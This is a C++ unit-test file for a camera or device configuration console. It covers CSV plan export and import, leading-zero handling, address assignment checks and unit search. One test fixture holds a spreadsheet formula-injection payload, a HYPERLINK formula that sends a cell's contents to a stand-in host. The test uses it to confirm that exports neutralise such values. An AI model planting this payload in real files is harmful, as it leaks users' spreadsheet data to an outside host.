// A site plan through the session: export, import, addresses in sequence, the check before
// Apply and find. Plans make the same pending edits as typing, and send nothing.
#include "tests/console/session_test_support.h"

#include <gtest/gtest.h>

namespace tarnwick::test {
namespace {

const std::string Header =
    "Use DHCP,Vendor / Manufacturer,Software Application Name,Software Version,Hardware Version,"
    "Unit ID,Serial Number,IP Address,Saved IP Address,Subnet Mask,Default Gateway,DNS Server,"
    "Host Name,MAC Address,DIP Switch,Device Information,Last Change,Last Change Time\r\n";

std::string Line(const std::string& text, std::size_t n) {
    std::size_t start = 0;
    for (; n > 0; --n)
        start = text.find("\r\n", start) + 2;
    return text.substr(start, text.find("\r\n", start) + 2 - start);
}

// Texts from the wire that a spreadsheet would run as formulas, or read as numbers.
void FeedAwkwardUnits(Console& console) {
    console.session->TakeDatagram(
        IdentificationReplyBytes({{"0D", SampleMac(2)},
                                  {"01", "Lumivar Z\xFCrich"},
                                  {"0A", "FALSE"},
                                  {"0C", "=HYPERLINK(\"http://x/?\"&A2,\"cam\")"},
                                  {"0E", "00000010"},
                                  {"0F", "0012"}}),
        "10.0.0.200");
    console.session->TakeDatagram(
        IdentificationReplyBytes(
            {{"0D", SampleMac(3)}, {"0A", "FALSE"}, {"0C", "=1+1"}, {"0F", "-7"}}),
        "10.0.0.200");
}

// Texts a spreadsheet would run as formulas go out as text; whatever the separator, the file
// comes back as no edit.
TEST_F(SessionTest, ExportShowsTheListAndTheLastChangeAndReadsBackAsNoEdit) {
    session.now = {9, 15, 0};
    Feed({1, 2, 3});
    ASSERT_EQ(Commit(2, ColumnHostName, "cam\xE9ra"), CommitResult::Accepted);
    session->Apply();
    RunApply();
    const std::string list = ExportList(session.State());
    EXPECT_EQ(Line(list, 0), "\xEF\xBB\xBF" + Header);
    EXPECT_EQ(Line(list, 1), "TRUE,Lumivar,KVQ Video Server,3.14.2,HW-B2,CAM1,SN100001,10.0.0.1,"
                             "10.1.0.1,255.255.0.0,10.0.0.1,10.0.0.2,kvq-1,00:1B:2C:00:00:01,0101,"
                             "\"Free Disk=1024/4096,Backups=Available,\",,\r\n");
    EXPECT_NE(Line(list, 2).find(",cam\xC3\xA9ra,00:1B:2C:00:00:02,"), std::string::npos);
    EXPECT_EQ(Line(list, 2).substr(Line(list, 2).size() - 16), ",sent,09:15:00\r\n");
    EXPECT_EQ(Line(list, 4), "");
    for (int tick = 0; tick < ChangeReplyWaitTicks; ++tick) // the list takes edits again
        session->TimerOpenTick(SocketState::Open);

    Console internal(true);
    internal.Feed({1});
    FeedAwkwardUnits(internal);
    internal.session->RowCheckBoxChanged(2, false);
    const int pending = internal.session.State().PendingChangeCount;
    EXPECT_EQ(Line(ExportList(internal.session.State(), ';'), 0).substr(3, 9), "Use DHCP;");
    for (ConsoleSession* s : {&*session, &*internal.session})
        for (const char separator : {',', ';'}) {
            const ImportResult result = s->ImportPlan(ExportList(s->State(), separator));
            EXPECT_TRUE(result.problems.empty() && result.unknownMacs.empty() &&
                        result.edits.empty() && result.droppedZeros.empty());
        }
    EXPECT_EQ(internal.session.State().PendingChangeCount, pending);
}

// A spreadsheet shows "0012" as the number 12 and saves it so; a value it could not have made
// that way is the plan's own, and addresses are checked as typed.
TEST(PlanImport, OnlyTheLeadingZerosASpreadsheetDropsAreTakenForTheUnitsOwn) {
    enum Outcome { Kept, Edit, Refused };
    for (const auto& [column, cell, value, outcome] :
         std::initializer_list<std::tuple<int, const char*, const char*, Outcome>>{
             {ColumnUnitID, "0012", "12", Kept},
             {ColumnUnitID, "0000", "0", Kept},
             {ColumnHostName, "00000010", "10", Kept},
             {ColumnUnitID, "0012", "012", Edit},
             {ColumnUnitID, "12", "0012", Edit},
             {ColumnUnitID, "0", "00", Edit},
             {ColumnUnitID, "A012", "A12", Edit},
             {ColumnSavedIPAddress, "010.001.000.001", "10.1.0.1", Edit},
             {ColumnSavedIPAddress, "0000", "0", Refused}}) {
        Console console;
        const std::string field = column == ColumnUnitID     ? "0F"
                                  : column == ColumnHostName ? "0C"
                                                             : "07";
        console.session->TakeDatagram(
            IdentificationReplyBytes({{"0D", SampleMac(1)}, {"0A", "FALSE"}, {field, cell}}),
            "10.0.0.200");
        const std::string caption = ListColumnHeaders[static_cast<std::size_t>(column - 1)];
        const ImportResult result = console.session->ImportPlan("MAC Address," + caption + "\n" +
                                                                SampleMac(1) + "," + value + "\n");
        const std::string trace = std::string(cell) + " " + value;
        EXPECT_EQ(result.problems.size(), outcome == Refused ? 1u : 0u) << trace;
        EXPECT_EQ(result.edits.size(), outcome == Edit ? 1u : 0u) << trace;
        EXPECT_EQ(result.droppedZeros, outcome == Kept ? Texts{"Line 2, " + caption} : Texts{})
            << trace;
        if (outcome == Kept) {
            EXPECT_EQ(ImportNotes(result), "1 cell kept as its unit has it (leading zeros a "
                                           "spreadsheet dropped):\nLine 2, " +
                                               caption);
        }
    }
}

// Installers leave a cell blank for "no change": nothing is sent for it. A plan that changes
// nothing says so in the status panel, until one that does.
TEST_F(SessionTest, ABlankCellLeavesItsFieldAsItIs) {
    Feed({1, 2});
    for (const std::string dhcp : {"", ",Use DHCP"}) {
        const ImportResult blank =
            session->ImportPlan("MAC Address,Saved IP Address,Default Gateway,Host Name,Unit ID" +
                                dhcp + "\n" + SampleMac(2) + ",,,,,\n");
        EXPECT_EQ(blank.problems, Texts{}) << dhcp;
        EXPECT_EQ(blank.edits, std::vector<PlannedEdit>{}) << dhcp;
        EXPECT_EQ(session.State().StatusText(), "Import Plan: no changes for the listed units");
        const std::string plan = "MAC Address,Saved IP Address\n" + SampleMac(1) + ",10.1.0.9\n";
        EXPECT_EQ(session->ImportPlan(plan).edits.size(), 1u);
        EXPECT_EQ(session.State().StatusText(), "2 units");
        session->CancelAll();
    }
}

TEST_F(SessionTest, AnImportedPlanIsPendingLikeTypingAndSendsNothing) {
    Feed({1, 2});
    Sent();
    const ImportResult result =
        session->ImportPlan("\xEF\xBB\xBFVendor / Manufacturer;MAC Address;Host Name;Use DHCP;"
                            "Saved IP Address;Serial Number\n"
                            "X;00:1B:2C:00:00:02;\"cam;2\";true;10.1.0.2;SN9\n"
                            ";00:1B:2C:00:00:09;cam-9;FALSE;;\n"
                            "X;00:1B:2C:00:00:01;kvq-1;TRUE\n");
    EXPECT_EQ(result.unknownMacs, (Texts{"00:1B:2C:00:00:09"}));
    EXPECT_EQ(ImportNotes(result), "1 unit of the plan is not in the list:\n00:1B:2C:00:00:09");
    EXPECT_EQ(result.edits.size(), 2u);
    EXPECT_EQ(At(2, ColumnHostName) + "|" + At(2, ColumnUseDHCP) + "|" +
                  At(2, ColumnSavedIPAddress) + "|" + At(2, ColumnSerialNumber) + "|" +
                  At(2, ColumnVendorManufacturer),
              "cam;2 red bold|Use DHCP red bold checked|10.1.0.2|SN100002|Lumivar");
    EXPECT_EQ(Sent(), "") << "no select request for a planned check box";
    EXPECT_EQ(State(), "selected -1 (highlight 0), pending 2, buttons on, list on, wait 0");
    session->CancelAll();
    EXPECT_EQ(At(2, ColumnHostName) + "|" + At(2, ColumnUseDHCP), "kvq-2|Use DHCP");
}

TEST_F(SessionTest, OneRefusedValueRefusesTheWholeFile) {
    Feed({1, 2, 3});
    const ImportResult result =
        session->ImportPlan("MAC Address,Host Name,Subnet Mask,Use DHCP,Unit ID\n"
                            "00:1B:2C:00:00:01,renamed,255.255.0.0,TRUE,CAM1\n"
                            "00:1B:2C:00:00:02,\"two\nlines\",255.255.0,FALSE,CAM2\n"
                            "00:1B:2C:00:00:03,cam\xE2\x82\xAC,,yes,CAM3\n"
                            ",x\n"
                            "00:1B:2C:00:00:01\n");
    EXPECT_EQ(result.problems, (Texts{"Line 3, Host Name: Host Name - Incorrect character.",
                                      "Line 3, Subnet Mask: Incorrect Subnet mask.",
                                      "Line 5, Host Name: Host Name - Incorrect character.",
                                      "Line 5, Use DHCP: TRUE or FALSE expected.",
                                      "Line 5, Unit ID: this unit has none to change.",
                                      "Line 6, MAC Address: empty.",
                                      "Line 7, MAC Address: planned already on line 2."}));
    EXPECT_TRUE(result.edits.empty());
    EXPECT_EQ(At(1, ColumnHostName), "kvq-1");
    EXPECT_EQ(State(), "selected -1 (highlight 0), pending 0, buttons off, list on, wait 0");
    EXPECT_EQ(session->ImportPlan("Host Name\nx\n").problems,
              (Texts{"The first line names no \"MAC Address\" column."}));
    // While a change request waits for its reply the list takes no edits, nor does a plan.
    ASSERT_EQ(Commit(1, ColumnHostName, "typed"), CommitResult::Accepted);
    session->ResendChanges(1);
    RunApply();
    const std::string busy =
        "The units are being sent their changes: try again when the list is enabled.";
    EXPECT_EQ(session->ImportPlan("MAC Address,Host Name\n" + SampleMac(2) + ",x\n").problems,
              Texts{busy});
    EXPECT_EQ(session->AssignAddresses({"10.1.0.3", "255.255.255.0", "", "", 1}).problem, busy);
    EXPECT_EQ(session.State().PendingChangeCount, 1);
}

// However an address arrives, the cell and the wire get it in its plain form.
TEST_F(SessionTest, AddressesFromAPlanOrAnAssignmentAreKeptPlain) {
    Feed({1, 2});
    const ImportResult plan =
        session->ImportPlan("MAC Address,Saved IP Address\n" + SampleMac(1) + ",10.1.000.001\n" +
                            SampleMac(2) + ",192.168.001.010\n");
    EXPECT_EQ(plan.problems, Texts{});
    EXPECT_EQ(At(1, ColumnSavedIPAddress) + "|" + At(2, ColumnSavedIPAddress),
              "10.1.0.1|192.168.1.10 red bold");
    session->CancelAll();
    EXPECT_EQ(session->AssignAddresses({"10.1.0.100", "255.255.000.0", "", "010.0.0.2", 2}).problem,
              "");
    EXPECT_EQ(At(2, ColumnSubnetMask) + "|" + At(2, ColumnDNSServer), "255.255.0.0|10.0.0.2");
}

TEST_F(SessionTest, AssignedAddressesArePendingAndTheCheckSeesWhatApplyWouldLeave) {
    Feed({1, 2, 3});
    EXPECT_NE(session->AssignAddresses({"10.1.0.1", "255.255.255.254", "", "", 1}).problem, "");
    EXPECT_EQ(session.State().PendingChangeCount, 0);
    const AddressSequence sequence =
        session->AssignAddresses({"10.1.0.3", "255.255.255.0", "10.1.0.254", "10.0.0.2", 1});
    EXPECT_EQ(sequence.units,
              (std::vector<AssignedAddress>{{1, SampleMac(1), "10.0.0.1", "10.1.0.4"},
                                            {2, SampleMac(2), "10.0.0.2", "10.1.0.5"},
                                            {3, SampleMac(3), "10.0.0.3", "10.1.0.6"}}));
    EXPECT_EQ(At(3, ColumnSavedIPAddress) + "|" + At(3, ColumnSubnetMask) + "|" +
                  At(3, ColumnDefaultGateway) + "|" + At(3, ColumnDNSServer),
              "10.1.0.6 red bold|255.255.255.0 red bold|10.1.0.254 red bold|10.0.0.2");
    EXPECT_EQ(State(), "selected -1 (highlight 0), pending 9, buttons on, list on, wait 0");
    EXPECT_EQ(Sent(), "");
    EXPECT_EQ(CheckAddresses(session.State()), Texts{});
    // Unit 1 is on DHCP and keeps the address it has.
    ASSERT_EQ(Commit(2, ColumnSavedIPAddress, "10.0.0.1"), CommitResult::Accepted);
    EXPECT_EQ(CheckAddresses(session.State()),
              (Texts{SampleMac(2) + " would get the saved IP 10.0.0.1, which " + SampleMac(1) +
                         " uses now and keeps.",
                     SampleMac(2) + ": the gateway 10.1.0.254 lies outside 10.0.0.0/24."}));
    session->SetCheckAddressesBeforeApply(false);
    EXPECT_EQ(ProblemsBeforeApply(session.State()), Texts{});
}

TEST_F(SessionTest, FindSelectsTheNextMatchingUnitAsAClickDoes) {
    Feed({1, 2, 3, 4});
    ASSERT_EQ(Commit(3, ColumnHostName, "Cam\xE9ra"), CommitResult::Accepted);
    Sent();
    for (const auto& [text, row, sent] :
         std::initializer_list<std::tuple<const char*, int, const char*>>{
             {"CAM\xC9", 3, ""}, // the selected unit itself, after a full turn
             {"kVq-", 4, "unselect 3, select 4"},
             {"00:00:0", 1, "unselect 4, select 1"},
             {"cam", 2, "unselect 1, select 2"},
             {"use dhcp", 0, ""},
             {"", 0, ""}}) {
        EXPECT_EQ(session->FindUnit(text), row) << text;
        EXPECT_EQ(Sent(), sent) << text;
    }
    EXPECT_EQ(State(), "selected 2 (highlight 2), pending 1, buttons on, list on, wait 0");
    EXPECT_EQ(session.State().EditRow(), 3) << "no editor opened";
    EXPECT_EQ(session->FindUnit("caf\xE9"), 0);
    EXPECT_EQ(session.State().StatusText(), "No unit holds \u201ccaf\u00e9\u201d");
    EXPECT_EQ(session->FindUnit("kvq"), 3);
    EXPECT_EQ(session.State().StatusText(), "4 units");
}

} // namespace
} // namespace tarnwick::test
